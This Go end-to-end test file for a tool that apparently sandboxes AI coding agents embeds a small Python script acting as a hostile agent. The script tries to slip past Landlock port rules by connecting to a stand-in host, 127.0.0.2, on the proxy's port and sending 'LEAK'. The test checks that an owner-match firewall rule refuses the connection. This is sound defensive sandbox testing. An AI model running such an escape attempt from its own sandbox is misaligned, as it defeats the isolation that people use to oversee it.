package e2e

import (
	"bufio"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/ralph-dev/gh-ralph/internal/sandbox/sandboxtest"

	"github.com/ralph-dev/gh-ralph/internal/sandbox"
	"github.com/ralph-dev/gh-ralph/internal/workflow"
)

// inNetNSEnv marks the test binary re-run in a network namespace of its own.
const inNetNSEnv = "RALPH_E2E_IN_NETNS"

// fwAttack is the hostile agent's program (python3): Landlock lets it connect to ralph's proxy's port on
// any address, so it asks for a listener on another address (127.0.0.2, standing for another host) on
// that very port, and sends it "LEAK". It notes what happened in fw-tried.
const fwAttack = `
import os, socket, time
ctl = os.environ["RALPH_TEST_CONTROL"]
log = open(os.path.join(ctl, "fw-tried"), "a")
port = int(os.environ["HTTPS_PROXY"].rstrip("/").rsplit(":", 1)[1])
with open(os.path.join(ctl, "fw-port.tmp"), "w") as f:
    f.write(str(port))
os.rename(os.path.join(ctl, "fw-port.tmp"), os.path.join(ctl, "fw-port"))
for _ in range(100):
    if os.path.exists(os.path.join(ctl, "fw-ready")):
        break
    time.sleep(0.1)
try:
    s = socket.create_connection(("127.0.0.2", port), timeout=3)
    s.sendall(b"LEAK\n"); s.close()
    log.write("127.0.0.2:%d sent\n" % port)
except OSError as e:
    log.write("127.0.0.2:%d %r\n" % (port, e))
log.close()
`

// Through both doors, as root where ralph holds CAP_NET_ADMIN: the agent's connection to another host on
// ralph's proxy's own port, which Landlock's port rules let through, is refused by the owner-match rule on
// the agent's uid. The listener decides. The test binary re-runs each test in a network namespace of its
// own, the test server and ralph with it: the machine's firewall is never touched.
func TestHostileFirewallAction(t *testing.T) {
	inOwnNetNS(t, "TestHostileFirewallAction", func(t *testing.T) { testHostileFirewall(t, false) })
}

func TestHostileFirewallCLI(t *testing.T) {
	inOwnNetNS(t, "TestHostileFirewallCLI", func(t *testing.T) { testHostileFirewall(t, true) })
}

// inOwnNetNS runs test, as root, in a network namespace of the test binary's own (a re-run of test name).
func inOwnNetNS(t *testing.T, name string, test func(t *testing.T)) {
	needRoot(t)
	if os.Getenv(inNetNSEnv) == "" {
		t.Parallel()
		cmd := exec.Command(os.Args[0], "-test.run=^"+name+"$", "-test.v", "-test.count=1")
		cmd.Env = append(os.Environ(), inNetNSEnv+"=1")
		cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWNET}
		out, err := cmd.CombinedOutput()
		var ee *exec.ExitError
		switch {
		case errors.As(err, &ee):
			t.Fatalf("in a network namespace of its own: %v\n%s", err, out)
		case err != nil:
			t.Skipf("needs a network namespace of its own (clone(CLONE_NEWNET)): %v", err)
		case strings.Contains(string(out), "--- SKIP"):
			t.Skipf("skipped in its network namespace:\n%s", out)
		case !strings.Contains(string(out), "--- PASS: "+name):
			t.Fatalf("the test did not run in its network namespace:\n%s", out)
		}
		if testing.Verbose() {
			t.Logf("in its network namespace:\n%s", out)
		}
		return
	}
	if err := sandboxtest.LoopbackUp(); err != nil {
		t.Fatalf("bringing lo up: %v", err)
	}
	os.Unsetenv(sandbox.EnvFirewall) // this network is the test's own
	if ok, why := sandbox.FirewallSupport(nil); !ok {
		t.Skipf("needs nftables with owned tables and CAP_NET_ADMIN: %s", why)
	}
	test(t)
}

func testHostileFirewall(t *testing.T, cli bool) {
	var (
		e  *env
		ce *cliEnv
	)
	if cli {
		ce = newCLIEnvAs(t, asRoot, baseConfig(t, ""))
		e = ce.env
	} else {
		e = newEnvAs(t, asRoot, baseConfig(t, ""))
	}
	e.setControl("fwattack.py", fwAttack)
	e.setControl("extra_research", `/usr/bin/python3 "$RALPH_TEST_CONTROL/fwattack.py" || true`+"\n")

	// The other host: a listener on 127.0.0.2 on ralph's proxy's port, once the agent has told it.
	var mu sync.Mutex
	var caught []string
	stop := make(chan struct{})
	defer close(stop)
	go func() {
		portFile := filepath.Join(e.control, "fw-port")
		for {
			select {
			case <-stop:
				return
			case <-time.After(50 * time.Millisecond):
			}
			b, err := os.ReadFile(portFile)
			if err != nil {
				continue
			}
			ln, err := net.Listen("tcp4", "127.0.0.2:"+strings.TrimSpace(string(b)))
			if err != nil {
				t.Errorf("listening on the other host: %v", err)
				return
			}
			defer ln.Close()
			go func() {
				for {
					c, err := ln.Accept()
					if err != nil {
						return
					}
					_ = c.SetReadDeadline(time.Now().Add(2 * time.Second))
					line, _ := bufio.NewReader(c).ReadString('\n')
					mu.Lock()
					caught = append(caught, "127.0.0.2: "+line)
					mu.Unlock()
					c.Close()
				}
			}()
			e.setControl("fw-ready", "")
			<-stop
			return
		}
	}()

	n := e.srv.CreateIssue("octocat", "Add a greeting", "")
	var r result
	if cli {
		e.srv.AddLabel(n, workflow.LabelBuild, maintainer)
		r = ce.cli(binary, "advance", fmt.Sprint(n))
	} else {
		r = e.label(n, maintainer)
	}
	if r.exit != 0 {
		t.Fatalf("exit %d\n%s%s", r.exit, r.stdout, r.stderr)
	}
	e.wantState(n, workflow.ReadyForPlan)
	tried, _ := os.ReadFile(filepath.Join(e.control, "fw-tried"))
	if !strings.Contains(string(tried), "127.0.0.2:") {
		t.Fatalf("the attack did not run:\n%s\n%s", tried, r.stdout)
	}
	mu.Lock()
	defer mu.Unlock()
	if len(caught) > 0 {
		t.Errorf("the agent reached another host on ralph's proxy's port: %q (its notes: %s)", caught, tried)
	}
	if !strings.Contains(r.stdout+r.stderr, "(an owner-match firewall rule)") {
		t.Errorf("the log does not say the owner-match rule holds the agent:\n%s%s", r.stdout, r.stderr)
	}
	t.Logf("the agent's notes: %s", tried)
}
